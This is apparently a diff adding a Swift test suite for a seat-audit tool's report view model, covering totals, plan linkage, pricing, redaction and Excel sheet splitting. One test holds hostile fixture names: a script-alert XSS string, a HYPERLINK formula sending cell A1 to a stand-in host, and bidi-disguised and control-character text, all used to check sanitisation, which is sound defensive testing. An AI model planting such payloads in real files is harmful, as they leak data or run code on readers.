@@ -1,0 +1,182 @@
+import Foundation
+import Testing
+
+@testable import SeatSweepKit
+
+/// The view model every report renders: its numbers come from the audit, its tables line up
+/// with the plan and the findings, redaction reaches every table, pricing shows when present.
+@Suite struct ReportDocumentTests {
+    @Test func numbersMatchTheSummary() throws {
+        let result = try ReportFixtures.sample()
+        let d = ReportDocument(result)
+        let s = result.summary
+        #expect(d.totals.accounts == s.accounts)
+        #expect(d.totals.billableSeats == s.billableSeats)
+        #expect(d.totals.candidates == s.candidates)
+        #expect(d.totals.planActions == result.plan.actions.count)
+        #expect(d.totals.protectedAccounts == s.protectedAccounts)
+        #expect(d.groups.map(\.billable) == s.groups.map(\.billable))
+        #expect(d.groups.map(\.candidates) == s.groups.map(\.candidates))
+        #expect(d.candidates.count == result.plan.actions.count)
+        #expect(d.seats.count == s.billableSeats)
+        #expect(d.protected.count == result.findings.protectedAccounts.count)
+        #expect(d.ageBuckets.reduce(0) { $0 + $1.count } == s.billableSeats)
+        #expect(
+            d.ageBuckets.map(\.label).prefix(7) == [
+                "0–30 days", "31–60 days", "61–90 days", "91–180 days", "181–365 days", "over 365 days", "never used",
+            ])
+        #expect(d.savings == nil)
+        #expect(d.asOf.iso == "2026-11-01")
+    }
+
+    @Test func candidatesAreOneRowPerPlanActionWithIdAndDecision() throws {
+        let result = try ReportFixtures.sample()
+        let table = ReportDocument(result).candidates
+        #expect(table.header.first == "id")
+        #expect(table.header.contains("Decision"))
+        let decision = try #require(table.header.firstIndex(of: "Decision"))
+        for (i, action) in result.plan.actions.enumerated() {
+            let row = table.row(i)
+            #expect(row[0] == .text(action.id))
+            #expect(row[decision] == .empty)
+            #expect(row[2] == .text(action.name))
+        }
+        // Typed cells: a real date, a number, never-used as text.
+        let ana = table.row(0)
+        #expect(ana[7] == .date(Day(year: 2026, month: 5, day: 2)!))
+        #expect(ana[8] == .integer(183))
+        let never = (0..<table.count).map(table.row).filter { $0[7] == .text("never") }
+        #expect(!never.isEmpty)
+    }
+
+    @Test func seatsPointAtTheirPlanAction() throws {
+        let result = try ReportFixtures.sample()
+        let table = ReportDocument(result).seats
+        let ids = Set(result.plan.actions.map(\.id))
+        var linked = 0
+        for i in 0..<table.count {
+            let row = table.row(i)
+            if case .text(let id) = row[10] {
+                #expect(ids.contains(id))
+                #expect(row[9] == .text("yes"))
+                linked += 1
+            } else {
+                #expect(row[9] == .text("no"))
+            }
+        }
+        #expect(linked == result.plan.actions.count)
+    }
+
+    @Test func suspendActionsLinkEverySeat() throws {
+        var policy = SamplesTests.policy
+        policy.action = .suspend
+        let result = try TestSupport.audit(
+            [TestSupport.input(TestSupport.sample("directory-export.csv"), as: "Samples/directory-export.csv")],
+            policy: policy)
+        let document = ReportDocument(result)
+        let suspend = try #require(result.plan.actions.firstIndex { $0.kind == .suspend })
+        let row = document.candidates.row(suspend)
+        #expect(row[6] == .text("suspend"))
+        guard case .text(let products) = row[4] else {
+            Issue.record("no product list")
+            return
+        }
+        #expect(products.contains("@"))
+        let seatIds = (0..<document.seats.count).map { document.seats.row($0)[10] }
+        let action = result.plan.actions[suspend]
+        #expect(seatIds.filter { $0 == .text(action.id) }.count == action.seats.count)
+    }
+
+    @Test func pricedPathShowsSavingsPerSubscription() throws {
+        let d = ReportDocument(try ReportFixtures.pricedSample())
+        #expect(d.isPriced)
+        #expect(d.currency == "EUR")
+        let jira = try #require(d.groups.first { $0.product == "jira" && $0.site == "acme" })
+        #expect(jira.savings?.monthlySavings == ReportFixtures.decimal("15.75"))
+        let jsm = try #require(d.groups.first { $0.product == "jira-service-management" })
+        #expect(jsm.savings == nil)
+        let summary = ReportFixtures.texts(d.summary)
+        #expect(summary.contains(["Monthly savings", "51.44"]))
+        #expect(summary.contains(["Annual savings", "617.28"]))
+        #expect(summary.contains(["Currency", "EUR"]))
+        let jsmRow = try #require(summary.first { $0.first == "jira-service-management" })
+        #expect(jsmRow.suffix(3) == Array(repeating: ReportDocument.notPriced, count: 3))
+        #expect(summary.contains { $0.first == "Tempo Timesheets" })
+    }
+
+    @Test func unpricedPathSaysHowToPrice() throws {
+        let summary = ReportFixtures.texts(ReportDocument(try ReportFixtures.sample()).summary)
+        #expect(summary.contains(["Monthly savings", "not priced (pass --pricing)"]))
+        #expect(summary.contains(["Annual savings", "not priced (pass --pricing)"]))
+    }
+
+    @Test func redactionReachesEveryTable() throws {
+        let result = try ReportFixtures.sample()
+        let d = ReportDocument(result, options: .init(redactor: Redactor(salt: "test")))
+        let everything =
+            [d.summary, d.candidates, d.seats, d.protected].flatMap(ReportFixtures.texts)
+            .joined().joined(separator: "\n") + d.methodology.joined() + d.diagnostics.map(\.message).joined()
+        for account in result.directory.accounts {
+            #expect(!everything.contains(account.name), "\(account.name) leaked")
+            #expect(!everything.lowercased().contains(account.email.lowercased()), "\(account.email) leaked")
+        }
+        // The same person has the same pseudonym in every table.
+        let redactor = Redactor(salt: "test")
+        let bram = try #require(result.directory.accounts.first { $0.name == "Bram de Vries" })
+        #expect(everything.contains(redactor.name(accountId: bram.id)))
+        let lena = try #require(result.directory.accounts.first { $0.name == "Lena Petrova" })
+        let protectedRows = ReportFixtures.texts(d.protected)
+        let lenaRow = try #require(protectedRows.first { $0[0] == lena.id })
+        #expect(lenaRow[1] == redactor.name(accountId: lena.id))
+        #expect(lenaRow[3].contains(redactor.email(accountId: lena.id)))  // the policy pattern quoted her e-mail
+        #expect(d.methodology.contains { $0.contains("1 exact address(es), hidden by --redact") })
+        #expect(d.redacted)
+    }
+
+    @Test func redactionHidesConflictingValuesInDiagnostics() throws {
+        let a =
+            "User id,User name,email,User status,Added to org,Org role,Last seen in Jira - acme,Jira - acme\n"
+            + "u1,Alice Secret,alice@x.example,Active,1 Jan 2020,None,Never accessed,User\n"
+        let b =
+            "User id,User name,email,User status,Added to org,Org role,Last seen in Jira - acme,Jira - acme\n"
+            + "u1,Alice Other,alice@x.example,Active,1 Jan 2020,None,Never accessed,User\n"
+        let result = try TestSupport.audit([("a.csv", a), ("b.csv", b)])
+        let plain = ReportDocument(result)
+        #expect(plain.diagnostics.contains { $0.message.contains("Alice Other") })
+        let redacted = ReportDocument(result, options: .init(redactor: Redactor(salt: "x")))
+        #expect(redacted.diagnostics.contains { $0.code == "conflicting-value" })
+        #expect(!redacted.diagnostics.contains { $0.message.contains("Alice") })
+    }
+
+    @Test func hostileTextIsCleanedButKept() throws {
+        let d = ReportDocument(try ReportFixtures.hostile())
+        let names = (0..<d.seats.count).map { d.seats.row($0)[1] }.compactMap { cell -> String? in
+            if case .text(let t) = cell { return t }
+            return nil
+        }
+        #expect(names.contains("<script>alert(\"x\")</script>"))
+        #expect(names.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")"))
+        #expect(names.contains("Mallory \u{FFFD}gnp.exe"))
+        #expect(names.contains("Bell\u{FFFD}Ringer\u{FFFD}Esc\u{FFFD}Del\u{FFFD}Next\u{FFFD}Line"))
+        #expect(names.contains("Zoë 👩🏽‍💻 Ørsted 🇳🇴 李小龍 مريم"))
+        #expect(names.contains { $0.count == 10_000 })
+        for name in names {
+            #expect(!name.unicodeScalars.contains { ReportText.isBidiControl($0) || $0.value < 0x20 })
+        }
+    }
+
+    @Test func sheetsSplitAtExcelsRowLimit() {
+        let table = ReportTable(name: "Seats", columns: [ReportColumn("a", width: 1)], count: 2_500_000) { _ in
+            Issue.record("rows are not made to plan sheets")
+            return []
+        }
+        let sheets = table.sheets()
+        #expect(sheets.map(\.name) == ["Seats", "Seats 2", "Seats 3"])
+        #expect(sheets.map(\.rows.count) == [1_048_575, 1_048_575, 402_850])
+        #expect(sheets.allSatisfy { $0.rows.count + 1 <= 1_048_576 })
+        let empty = ReportTable(name: "Protected", columns: [], rows: [], autoFilter: true)
+        #expect(empty.sheets() == [ReportSheet(name: "Protected", rows: 0..<0)])
+        let exact = ReportTable(name: "X", columns: [], count: 1_048_575) { _ in [] }
+        #expect(exact.sheets().count == 1)
+    }
+}
